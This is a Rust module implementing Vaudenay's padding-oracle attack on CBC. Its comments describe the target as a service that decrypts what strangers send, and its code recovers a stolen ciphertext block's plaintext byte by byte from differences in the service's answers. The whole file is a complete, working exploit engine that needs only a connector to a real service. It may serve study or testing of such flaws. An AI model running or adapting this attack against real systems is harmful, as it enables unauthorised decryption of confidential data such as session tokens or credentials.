//! Vaudenay's attack on CBC: what a decrypting service says about made-up ciphertext, byte by byte,
//! becomes the plaintext.
//!
//! The attacker sends one stolen block behind a block of their own. Whatever differs between two answers
//! is taken for the padding being right or wrong: status, headers, body, anything.
use std::collections::HashMap;

/// Bytes of one AES block.
pub(crate) const BLOCK: usize = 16;

pub(crate) type Block = [u8; BLOCK];

/// All that an answer shows.
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub(crate) enum Heard {
    /// It was looked at; everything in the answer that could depend on the data.
    Answer(String),
    /// It was not looked at, and nothing will be any more.
    Refused,
}

/// Somebody who decrypts what strangers send.
pub(crate) trait Oracle {
    async fn ask(&mut self, before: Block, stolen: Block) -> Heard;
}

/// One attack.
pub(crate) struct Attacker<O> {
    pub(crate) oracle: O,
    /// What is answered when the padding is wrong: almost always.
    usual: Option<Heard>,
}

/// The oracle says no more.
struct Silenced;

impl<O: Oracle> Attacker<O> {
    pub(crate) fn new(oracle: O) -> Self {
        Self {
            oracle,
            usual: None,
        }
    }

    /// The bytes of plaintext that were recovered, from the last one on, until the oracle fell silent.
    ///
    /// `stolen` is a block of ciphertext, `before` the one that precedes it.
    pub(crate) async fn recover(&mut self, before: Block, stolen: Block) -> Vec<u8> {
        let mut inner = [0; BLOCK];
        for (number, at) in (1..).zip((0..BLOCK).rev()) {
            let Ok(Some(byte)) = self.byte(&inner, number, at, stolen).await else {
                return plain(&inner[at + 1..], &before[at + 1..]);
            };
            inner[at] = byte;
        }
        plain(&inner, &before)
    }

    /// The byte at `at` before it met the block before: the one that makes a padding of `number` bytes.
    async fn byte(
        &mut self,
        inner: &Block,
        number: u8,
        at: usize,
        stolen: Block,
    ) -> Result<Option<u8>, Silenced> {
        let mut before = [0; BLOCK];
        for place in at + 1..BLOCK {
            before[place] = inner[place] ^ number;
        }
        for guess in 0..=u8::MAX {
            before[at] = guess;
            if self.stands_out(before, stolen).await? && self.surely(before, at, stolen).await? {
                return Ok(Some(guess ^ number));
            }
        }
        Ok(None)
    }

    /// A padding that is right by its last byte alone stays right when the byte before it changes.
    async fn surely(
        &mut self,
        mut before: Block,
        at: usize,
        stolen: Block,
    ) -> Result<bool, Silenced> {
        let Some(previous) = at.checked_sub(1) else {
            return Ok(true);
        };
        before[previous] ^= 0xff;
        self.stands_out(before, stolen).await
    }

    async fn stands_out(&mut self, before: Block, stolen: Block) -> Result<bool, Silenced> {
        let usual = match self.usual.clone() {
            Some(usual) => usual,
            None => self.learn(stolen).await?,
        };
        Ok(self.hear(before, stolen).await? != usual)
    }

    /// Of three answers to noise, two at least are about wrong padding.
    async fn learn(&mut self, stolen: Block) -> Result<Heard, Silenced> {
        let mut heard = HashMap::new();
        for noise in [[0x5a; BLOCK], [0xa5; BLOCK], [0x3c; BLOCK]] {
            *heard.entry(self.hear(noise, stolen).await?).or_insert(0) += 1;
        }
        let usual = heard.into_iter().max_by_key(|(_, times)| *times);
        let (usual, _) = usual.expect("three were heard");
        self.usual = Some(usual.clone());
        Ok(usual)
    }

    async fn hear(&mut self, before: Block, stolen: Block) -> Result<Heard, Silenced> {
        match self.oracle.ask(before, stolen).await {
            Heard::Refused => Err(Silenced),
            heard @ Heard::Answer(_) => Ok(heard),
        }
    }
}

fn plain(inner: &[u8], before: &[u8]) -> Vec<u8> {
    inner.iter().zip(before).map(|(a, b)| a ^ b).collect()
}
